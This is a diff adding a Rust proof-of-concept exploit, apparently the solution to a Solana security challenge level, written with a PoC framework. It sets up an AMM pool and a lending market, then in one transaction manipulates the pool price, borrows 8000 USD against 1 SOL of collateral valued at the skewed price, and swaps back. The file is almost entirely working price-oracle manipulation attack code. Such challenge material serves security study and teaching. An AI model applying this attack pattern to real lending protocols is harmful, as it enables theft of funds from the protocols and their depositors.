@@ -0,0 +1,230 @@
+use owo_colors::OwoColorize;
+
+use actors::Actors;
+use dryrun::RemoteEnvironment;
+
+use poc_framework::{
+    Environment,
+    spl_token,
+    solana_program::{
+        pubkey::Pubkey,
+        instruction::{AccountMeta, Instruction},
+        native_token::LAMPORTS_PER_SOL,
+        program_pack::Pack,
+        system_instruction,
+        sysvar,
+    },
+    solana_sdk::{
+        system_program,
+        signature::{read_keypair_file, Keypair, Signer},
+    },
+};
+
+use borsh::{BorshSerialize, BorshDeserialize};
+
+#[derive(Debug, BorshDeserialize, BorshSerialize)]
+pub enum AmmInstruction {
+    InitializePool,
+    SwapSolForToken { lamports: u64 },
+    SwapTokenForSol { amount: u64 },
+}
+
+#[derive(Debug, BorshDeserialize, BorshSerialize)]
+pub enum LendingInstruction {
+    Initialize,
+    OpenObligation,
+    DepositCollateral { lamports: u64 },
+    Borrow { amount: u64 },
+}
+// We use the same Structure created in the Smart Contract
+#[repr(C)]
+#[derive(Clone, Copy, Debug, Default, PartialEq, BorshSerialize, BorshDeserialize)]
+pub struct Obligation {
+    pub owner: Pubkey,
+    pub collateral: u64,
+    pub borrowed: u64,
+}
+
+pub const POOL_LEN: u64 = 32 + 32 + 1;
+
+// USD has 6 decimals
+const USD: u64 = 1_000_000;
+
+// Token account owned by a PDA, the framework helpers only take keypairs as owner
+fn create_token_account(env: &mut RemoteEnvironment, account: &Keypair, mint: Pubkey, owner: Pubkey) {
+    env.execute_as_transaction(
+        &[
+            system_instruction::create_account(
+                &env.payer().pubkey(),
+                &account.pubkey(),
+                env.get_rent_excemption(spl_token::state::Account::LEN),
+                spl_token::state::Account::LEN as u64,
+                &spl_token::id(),
+            ),
+            spl_token::instruction::initialize_account(&spl_token::id(), &account.pubkey(), &mint, &owner).unwrap(),
+        ],
+        &[account],
+    );
+}
+
+fn token_balance(env: &RemoteEnvironment, account: Pubkey) -> u64 {
+    env.get_unpacked_account::<spl_token::state::Account>(account).unwrap().amount
+}
+
+fn print_pool(env: &RemoteEnvironment, pool: Pubkey, reserve: Pubkey) {
+    let sol = env.get_account(pool).unwrap().lamports - env.get_rent_excemption(POOL_LEN as usize);
+    let usd = token_balance(env, reserve);
+    println!("{} {:?} {} {:?} {} {:?}", "Pool SOL: ".bold().blue(), (sol / LAMPORTS_PER_SOL).blue(),
+    "USD: ".bold().blue(), (usd / USD).blue(),
+    "price of 1 SOL: ".bold().blue(), (usd as u128 * LAMPORTS_PER_SOL as u128 / sol as u128 / USD as u128).blue());
+}
+
+pub fn main() {
+    let lending = read_keypair_file("./target/so/level10-keypair.json").unwrap().pubkey();
+    let amm = read_keypair_file("./target/so/amm-keypair.json").unwrap().pubkey();
+    let cliente1 = dryrun::client();
+
+    let mut actors = Actors::new();
+    let admin = actors.get("admin");
+    let hacker = actors.get("hacker");
+    let mint = Keypair::new();
+    actors.label(mint.pubkey(), "level10_mint");
+    let pool_reserve = Keypair::new();
+    actors.label(pool_reserve.pubkey(), "level10_pool_reserve");
+    let liquidity = Keypair::new();
+    actors.label(liquidity.pubkey(), "level10_liquidity");
+
+    let (pool, _) = Pubkey::find_program_address(&[&"POOL".as_bytes(), &mint.pubkey().to_bytes()], &amm);
+    let (market, _) = Pubkey::find_program_address(&[&"MARKET".as_bytes()], &lending);
+    let (obligation, _) = Pubkey::find_program_address(&[&hacker.pubkey().to_bytes()], &lending);
+
+    let mut env = RemoteEnvironment::new_with_airdrop(cliente1, actors.get("admin"), 20 * LAMPORTS_PER_SOL);
+    println!("{}", actors.legend().blue());
+    env.airdrop(hacker.pubkey(), 2 * LAMPORTS_PER_SOL);
+
+    /* First the setup: a pool with 10 SOL / 1000 USD (1 SOL = 100 USD), a market lending 10000 USD */
+    env.create_token_mint(&mint, admin.pubkey(), None, 6);
+    create_token_account(&mut env, &pool_reserve, mint.pubkey(), pool);
+    create_token_account(&mut env, &liquidity, mint.pubkey(), market);
+    env.mint_tokens(mint.pubkey(), &admin, pool_reserve.pubkey(), 1000 * USD);
+    env.mint_tokens(mint.pubkey(), &admin, liquidity.pubkey(), 10000 * USD);
+    env.execute_as_transaction(
+        &[
+            Instruction {
+                program_id: amm,
+                accounts: vec![
+                    AccountMeta::new(pool, false),
+                    AccountMeta::new_readonly(pool_reserve.pubkey(), false),
+                    AccountMeta::new_readonly(mint.pubkey(), false),
+                    AccountMeta::new(admin.pubkey(), true),
+                    AccountMeta::new_readonly(sysvar::rent::id(), false),
+                    AccountMeta::new_readonly(system_program::id(), false),
+                ],
+                data: AmmInstruction::InitializePool.try_to_vec().unwrap(),
+            },
+            system_instruction::transfer(&admin.pubkey(), &pool, 10 * LAMPORTS_PER_SOL),
+            Instruction {
+                program_id: lending,
+                accounts: vec![
+                    AccountMeta::new(market, false),
+                    AccountMeta::new_readonly(liquidity.pubkey(), false),
+                    AccountMeta::new_readonly(pool, false),
+                    AccountMeta::new(admin.pubkey(), true),
+                    AccountMeta::new_readonly(sysvar::rent::id(), false),
+                    AccountMeta::new_readonly(system_program::id(), false),
+                ],
+                data: LendingInstruction::Initialize.try_to_vec().unwrap(),
+            },
+        ],
+        &[&admin],
+    );
+
+    /* We start with 1 SOL of collateral and 9000 USD of working capital we give back at the end */
+    let hacker_usd = env.get_or_create_associated_token_account(&hacker, mint.pubkey());
+    env.mint_tokens(mint.pubkey(), &admin, hacker_usd, 9000 * USD);
+    env.execute_as_transaction(
+        &[Instruction {
+            program_id: lending,
+            accounts: vec![
+                AccountMeta::new(obligation, false),
+                AccountMeta::new(hacker.pubkey(), true),
+                AccountMeta::new_readonly(sysvar::rent::id(), false),
+                AccountMeta::new_readonly(system_program::id(), false),
+            ],
+            data: LendingInstruction::OpenObligation.try_to_vec().unwrap(),
+        }],
+        &[&hacker],
+    );
+
+    println!("");
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*                 INITIALIZING             *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    print_pool(&env, pool, pool_reserve.pubkey());
+    println!("{} {:?}", "Market liquidity USD: ".bold().blue(), (token_balance(&env, liquidity.pubkey()) / USD).blue());
+    println!("{} {:?}", "Hacker USD: ".bold().blue(), (token_balance(&env, hacker_usd) / USD).blue());
+    println!("{} {:?}", "Honest max borrow for 1 SOL (80% of 100 USD): ".bold().blue(), 80.blue());
+    println!("");
+
+    /*
+    Second, all in one transaction:
+      - sell 9000 USD for 9 SOL: the pool is left with 1 SOL / 10000 USD, 1 SOL = 10000 USD
+      - deposit 1 SOL and borrow 80% of 10000 USD
+      - sell the 9 SOL back for our 9000 USD, the price goes back to 100
+    */
+    let swap = |data: AmmInstruction| Instruction {
+        program_id: amm,
+        accounts: vec![
+            AccountMeta::new(pool, false),
+            AccountMeta::new(pool_reserve.pubkey(), false),
+            AccountMeta::new(hacker.pubkey(), true),
+            AccountMeta::new(hacker_usd, false),
+            AccountMeta::new_readonly(spl_token::id(), false),
+            AccountMeta::new_readonly(system_program::id(), false),
+        ],
+        data: data.try_to_vec().unwrap(),
+    };
+    env.execute_as_transaction(
+        &[
+            swap(AmmInstruction::SwapTokenForSol { amount: 9000 * USD }),
+            Instruction {
+                program_id: lending,
+                accounts: vec![
+                    AccountMeta::new(market, false),
+                    AccountMeta::new(obligation, false),
+                    AccountMeta::new(hacker.pubkey(), true),
+                    AccountMeta::new_readonly(system_program::id(), false),
+                ],
+                data: LendingInstruction::DepositCollateral { lamports: LAMPORTS_PER_SOL }.try_to_vec().unwrap(),
+            },
+            Instruction {
+                program_id: lending,
+                accounts: vec![
+                    AccountMeta::new_readonly(market, false),
+                    AccountMeta::new(obligation, false),
+                    AccountMeta::new_readonly(hacker.pubkey(), true),
+                    AccountMeta::new(liquidity.pubkey(), false),
+                    AccountMeta::new(hacker_usd, false),
+                    AccountMeta::new_readonly(pool, false),
+                    AccountMeta::new_readonly(pool_reserve.pubkey(), false),
+                    AccountMeta::new_readonly(spl_token::id(), false),
+                ],
+                data: LendingInstruction::Borrow { amount: 8000 * USD }.try_to_vec().unwrap(),
+            },
+            swap(AmmInstruction::SwapSolForToken { lamports: 9 * LAMPORTS_PER_SOL }),
+        ],
+        &[&hacker],
+    );
+
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*    SKEW, BORROW, UNSKEW (1 TRANSACTION)  *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    print_pool(&env, pool, pool_reserve.pubkey());
+    println!("{} {:?}", "Obligation: ".bold().red(), env.get_deserialized_account::<Obligation>(obligation).unwrap().red());
+    println!("{} {:?}", "Market liquidity USD: ".bold().red(), (token_balance(&env, liquidity.pubkey()) / USD).red());
+    println!("{} {:?}", "Hacker USD (9000 capital + borrowed, for 1 SOL = 100 USD of collateral): ".bold().green(),
+    (token_balance(&env, hacker_usd) / USD).green());
+    println!("");
+}